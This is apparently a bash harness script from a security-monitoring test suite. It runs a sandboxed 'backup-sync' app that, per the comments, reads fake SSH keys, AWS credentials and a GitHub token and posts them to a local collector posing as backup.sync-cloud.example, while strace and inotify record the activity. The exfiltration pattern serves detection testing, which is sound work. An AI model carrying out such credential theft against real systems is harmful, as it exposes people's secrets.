#!/bin/bash
# Case py_key_exfil: "backup-sync" (apps/py_key_exfil/backup_sync.py, run as auditor) reads the
# fake ~/.ssh/id_rsa and ~/.aws/credentials and POSTs them raw over a plain socket to
# 127.0.0.1:8451 with "Host: backup.sync-cloud.example", then sends the fake GitHub token of
# its config.json in a second request's Authorization header. The collector
# (apps/py_key_exfil/collector.py, as nobody, untraced) answers 202. strace -s 256 so the
# sent buffers show the secrets.
# Run as root: testdata/harness/py_key_exfil.sh
set -euo pipefail
CASE_HOSTNAME=5c1e8a7f2b90
source "$(dirname "$(readlink -f "$0")")/lib.sh"
enter_sandbox py_key_exfil
# ---- from here on: PID 1 inside the sandbox ----
install_app py_key_exfil collector.py
setpriv --reuid=nobody --regid=nogroup --clear-groups \
  /usr/bin/python3 /opt/harness/collector.py 8451 > /mnt/collector.out 2>&1 &
COLLECTOR=$!
wait_port 8451

start_inotify -m -r --csv -e access,modify,create,delete,open,close_write /home/auditor /tmp
trace_app -f -tt -T -y -s 256 -- /usr/bin/python3 backup_sync.py 127.0.0.1 8451
finish_trace
ss -tanpH > /artifacts/ss.txt
ps -eLo pid,lwp,ppid,user,nlwp,args > /artifacts/ps.txt
kill $COLLECTOR
wait $COLLECTOR || true
echo "collector saw:" >&2
cat /mnt/collector.out >&2
